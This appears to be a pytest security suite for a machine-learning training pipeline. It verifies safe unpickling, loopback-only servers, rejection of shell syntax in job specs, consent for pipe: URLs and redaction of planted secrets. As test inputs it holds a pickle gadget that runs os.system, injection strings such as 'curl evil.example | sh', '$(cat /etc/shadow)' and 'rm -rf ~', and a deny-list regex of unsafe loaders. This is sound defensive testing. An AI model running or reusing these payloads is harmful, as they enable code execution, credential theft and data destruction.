"""Security properties: nothing is unpickled from storage, secrets never reach what a run writes,
servers bind 127.0.0.1, job specs cannot inject shell, ``pipe:`` URLs need explicit consent."""

from __future__ import annotations

import ast
import os
import pickle
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import yaml

from pipeline import pretrain
from pipeline.config import ConfigError
from pipeline.models.convert import read_haiku_file
from pipeline.run.schedule import TaskSpec, finetune_argv, load_tasks

ROOT = Path(__file__).resolve().parents[2]
PACKAGE = ROOT / "pipeline"
SECRETS = ("AKIAPLANTEDSECRET1", "plantedsecretvalue2", "plantedsecretvalue3")


def package_sources() -> dict[str, str]:
    return {str(p.relative_to(ROOT)): p.read_text() for p in sorted(PACKAGE.rglob("*.py"))}


# --- nothing is unpickled from storage -------------------------------------------------------


def test_no_unrestricted_unpickling_in_the_package():
    sources = package_sources()
    assert len(sources) > 40  # the whole package was read
    torch_loads = [
        (name, line)
        for name, text in sources.items()
        for line in text.splitlines()
        if "torch.load(" in line
    ]
    assert [call for call in torch_loads if "weights_only=True" not in call[1]] == []
    banned = re.compile(r"pickle\.loads?\(|\bdill\b|cloudpickle\.loads?\(|joblib\.load\(")
    assert [name for name, text in sources.items() if banned.search(text)] == []
    # The one Unpickler in the package is the Haiku reader's allow-list.
    unpicklers = [
        (name, node.name)
        for name, text in sources.items()
        for node in ast.walk(ast.parse(text))
        if isinstance(node, ast.ClassDef)
        and any(ast.unparse(base) == "pickle.Unpickler" for base in node.bases)
    ]
    assert unpicklers == [("pipeline/models/convert.py", "_ArrayUnpickler")]


class _RunsACommand:
    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def test_haiku_reader_refuses_a_pickle_that_runs_a_command(tmp_path):
    marker = tmp_path / "pwned"
    hostile = tmp_path / "F0_haiku.npz"
    hostile.write_bytes(pickle.dumps({"stem/conv": {"w": _RunsACommand(marker)}}))
    with pytest.raises(ValueError, match=r"refusing to load posix\.system"):
        read_haiku_file(hostile)
    assert not marker.exists()


def test_haiku_reader_still_reads_plain_arrays(tmp_path):
    weights = {"stem/conv": {"w": np.arange(6, dtype=np.float32).reshape(1, 2, 3), "b": np.ones(3)}}
    path = tmp_path / "F0_haiku.npz"
    path.write_bytes(pickle.dumps(weights))
    tree = read_haiku_file(path)
    assert np.array_equal(tree["stem/conv"]["w"], weights["stem/conv"]["w"])
    assert np.array_equal(tree["stem/conv"]["b"], np.ones(3))


# --- servers bind 127.0.0.1 -----------------------------------------------------------------


def _string_sequences(path: Path) -> list[list[str]]:
    """Every call's positional string arguments and every list literal of strings in a file."""
    sequences = []
    for node in ast.walk(ast.parse(path.read_text())):
        items = node.args if isinstance(node, ast.Call) else getattr(node, "elts", None)
        if isinstance(node, ast.Call | ast.List | ast.Tuple) and items:
            sequences.append([a.value if isinstance(a, ast.Constant) else None for a in items])
    return sequences


def _flag_values(path: Path, flag: str) -> list[str | None]:
    return [
        seq[i + 1] for seq in _string_sequences(path) for i, v in enumerate(seq[:-1]) if v == flag
    ]


@pytest.mark.parametrize(
    "relative, flags",
    [
        ("pipeline/run/demo.py", {"--node-ip-address": 1, "--dashboard-host": 1}),
        ("tests/fixtures/ray_cluster.py", {"--node-ip-address": 2, "--dashboard-host": 1}),
        ("tests/fixtures/mlflow_server.py", {"--host": 1}),
        ("tests/integration/conftest.py", {"-H": 1}),
    ],
)
def test_every_server_command_binds_loopback(relative: str, flags: dict[str, int]):
    path = ROOT / relative
    for flag, count in flags.items():
        assert _flag_values(path, flag) == ["127.0.0.1"] * count, flag
    assert "0.0.0.0" not in path.read_text()


def test_local_ray_is_started_on_loopback_with_a_loopback_dashboard():
    from pipeline.run import ray_cluster

    tree = ast.parse(Path(ray_cluster.__file__).read_text())
    connect = next(n for n in tree.body if getattr(n, "name", "") == "connect_ray")
    local = [
        {kw.arg: ast.literal_eval(kw.value) for kw in call.keywords if kw.arg}
        for call in ast.walk(connect)
        if isinstance(call, ast.Call) and ast.unparse(call.func) == "ray.init"
        and any(kw.arg == "address" and ast.unparse(kw.value) == "'local'" for kw in call.keywords)
    ]  # fmt: skip
    assert len(local) == 1
    assert local[0]["_node_ip_address"] == "127.0.0.1"
    assert local[0]["dashboard_host"] == "127.0.0.1"
    assert not any("0.0.0.0" in text for text in package_sources().values())


# --- job specs cannot inject shell ----------------------------------------------------------


def write_spec(folder: Path, **fields) -> Path:
    spec = {"name": "digits", "config": "configs/finetune/digits.yaml",
            "train_url": "file://shards/digits"} | fields  # fmt: skip
    folder.mkdir(exist_ok=True)
    (folder / "digits.yaml").write_text(yaml.safe_dump(spec))
    return folder / "digits.yaml"


@pytest.mark.parametrize(
    "key, value",
    [
        ("train_url", "file://x; curl evil.example | sh"),
        ("train_url", "s3://bucket/$(id)"),
        ("config", "configs/finetune/digits.yaml && rm -rf ~"),
        ("config", "`reboot`.yaml"),
        ("overrides", ["optim.lr=0.1 ; rm -rf ~"]),
        ("overrides", ["optim.lr=$(cat /etc/shadow)"]),
        ("overrides", ["--from=scratch"]),
        ("overrides", ["optim.lr=0.1\ntouch /tmp/x"]),
    ],
)
def test_job_spec_with_shell_syntax_is_refused_naming_file_and_key(tmp_path, key, value):
    path = write_spec(tmp_path / "jobs", **{key: value})
    with pytest.raises(ConfigError) as error:
        load_tasks(tmp_path / "jobs")
    message = str(error.value)
    assert message.startswith(f"{path}: '{key}")
    assert "shell syntax" in message


def test_entrypoint_round_trips_hostile_looking_but_valid_values():
    task = TaskSpec(
        name="digits-2",
        config="configs/fine tune/digits (copy).yaml",
        train_url="s3://bucket/sets/digits*?v=1 #2",
        overrides=["optim.lr=0.01", "data.train_url=file:///d/x,y+z@1", "tracking.run_name=a=b"],
    )
    argv = finetune_argv(
        task, "0123abcd" * 4, 500, "http://127.0.0.1:5000/?a=1&b=2", "exp (ablation) #1; ok", None
    )
    entrypoint = shlex.join(argv)
    assert shlex.split(entrypoint) == argv
    assert len(argv) == 15
    assert argv[:3] == ["python", "-m", "pipeline.finetune"]
    assert argv[6] == "0123abcd" * 4 + "@500"
    assert argv[11] == "tracking.experiment=exp (ablation) #1; ok"
    # a shell parsing the entrypoint sees exactly these 15 words: nothing after ';' or '#'
    # runs or is dropped
    via_shell = subprocess.run(
        ["sh", "-c", f"set -- {entrypoint}; for w in \"$@\"; do printf '%s\\0' \"$w\"; done"],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert via_shell.stdout.split("\0")[:-1] == argv


# --- pipe: URLs need data.allow_pipe ----------------------------------------------------------


def test_pipe_url_is_refused_unless_allowed(tmp_path, capsys, monkeypatch):
    monkeypatch.delenv("RAY_ADDRESS", raising=False)
    marker = tmp_path / "ran"
    config = tmp_path / "pipe.yaml"
    config.write_text(yaml.safe_dump({"model": {"name": "nfnet_nano"}}))
    argv = ["--config", str(config), "--dry-run", f"data.train_url=pipe:touch {marker}"]
    assert pretrain.main(argv) == 2
    stderr = capsys.readouterr().err
    assert "data.train_url" in stderr and "data.allow_pipe=true" in stderr
    assert not marker.exists()


# --- secrets never reach what a run writes ---------------------------------------------------


def _found(blob: bytes | str) -> list[str]:
    text = blob.decode("utf-8", "replace") if isinstance(blob, bytes) else blob
    return [secret for secret in SECRETS if secret in text]


@pytest.mark.integration
def test_planted_secrets_appear_nowhere_a_real_run_writes(tmp_path, ray_cluster, mlflow_server):
    from mlflow import MlflowClient

    credentials = {"key": SECRETS[0], "secret": SECRETS[1]}
    config = {
        "model": {"name": "nfnet_nano"},
        "data": {"train_url": "synthetic://?samples=64&resolution=32&classes=10",
                 "storage_options": credentials},
        "train": {"global_batch": 16, "micro_batch": 8, "steps": 2, "log_every": 1,
                  "eval_every": 2},
        "checkpoint": {"storage_url": f"file://{tmp_path}/runs", "every_steps": 2,
                       "storage_options": credentials},
        "tracking": {"uri": mlflow_server, "experiment": f"secrets-{tmp_path.name}"},
        "scaling": {"num_workers": 1},
    }  # fmt: skip
    path = tmp_path / "secrets.yaml"
    path.write_text(yaml.safe_dump(config))
    result = subprocess.run(
        [sys.executable, "-m", "pipeline.pretrain", "--config", str(path)],
        env=ray_cluster.env(AWS_SECRET_ACCESS_KEY=SECRETS[2]),
        cwd=ROOT, capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert result.returncode == 0, (result.stdout + result.stderr)[-4000:]
    assert _found(result.stdout) == [] and _found(result.stderr) == []

    client = MlflowClient(mlflow_server)
    experiment = client.get_experiment_by_name(config["tracking"]["experiment"])
    (run,) = client.search_runs([experiment.experiment_id])
    data = run.data
    # the keys are logged, their values redacted
    assert data.params["checkpoint.storage_options.key"] == "***"
    assert data.params["data.storage_options.secret"] == "***"
    assert _found(repr(data.params)) == [] and _found(repr(data.tags)) == []
    assert _found(repr(sorted(data.metrics))) == []
    downloaded = Path(client.download_artifacts(run.info.run_id, "", str(tmp_path / "artifacts")))
    artifacts = [p for p in downloaded.rglob("*") if p.is_file()]
    assert any(p.name == "config.yaml" for p in artifacts)
    checkpoints = [p for p in (tmp_path / "runs").rglob("*") if p.is_file()]
    assert any(p.name == "model.safetensors" for p in checkpoints)
    leaks = {str(p): _found(p.read_bytes()) for p in artifacts + checkpoints}
    assert {name: found for name, found in leaks.items() if found} == {}


def listening_addresses(port: int) -> set[str]:
    """The local addresses with a TCP socket listening on ``port``, as ``ss -ltn`` reports them."""
    # ss rather than /proc/net/tcp: sandboxed kernels (gVisor) leave /proc/net/tcp empty.
    table = subprocess.run(["ss", "-ltnH"], capture_output=True, text=True, check=True).stdout
    found = set()
    for line in table.splitlines():
        address, _, local_port = line.split()[3].rpartition(":")
        if int(local_port) == port:
            found.add(address.strip("[]").removeprefix("::ffff:"))
    return found


@pytest.mark.integration
def test_dashboard_and_mlflow_server_listen_on_loopback_only(ray_cluster, mlflow_server):
    if shutil.which("ss") is None:
        pytest.skip("needs ss (iproute2) to list listening sockets")
    dashboard_port = int(ray_cluster.dashboard_url.rsplit(":", 1)[1])
    mlflow_port = int(mlflow_server.rsplit(":", 1)[1])
    assert listening_addresses(dashboard_port) == {"127.0.0.1"}
    assert listening_addresses(mlflow_port) == {"127.0.0.1"}


def test_pipe_url_works_once_allowed(tmp_path, monkeypatch):
    """The control: with data.allow_pipe=true the same kind of URL is read through the shell."""
    from pipeline.data import write_shards
    from pipeline.data.sources import shapes
    from pipeline.run.preflight import prepare

    monkeypatch.delenv("RAY_ADDRESS", raising=False)
    write_shards(shapes(40, 16, seed=0), f"file://{tmp_path}/set", samples_per_shard=20,
                 val_samples=8, progress=False)  # fmt: skip
    config = tmp_path / "pipe.yaml"
    base = {"model": {"name": "nfnet_nano"}, "train": {"global_batch": 16, "micro_batch": 8},
            "checkpoint": {"storage_url": f"file://{tmp_path}/runs"},
            "tracking": {"uri": f"sqlite:///{tmp_path}/mlflow.db"}}  # fmt: skip
    config.write_text(yaml.safe_dump(base))
    url = f"data.train_url=pipe:cat {tmp_path}/set/{{path}}"
    _, plan = prepare(config, ["data.allow_pipe=true", url], dry_run=True)
    assert plan.train_samples == 32  # from the dataset's info file, read through the shell
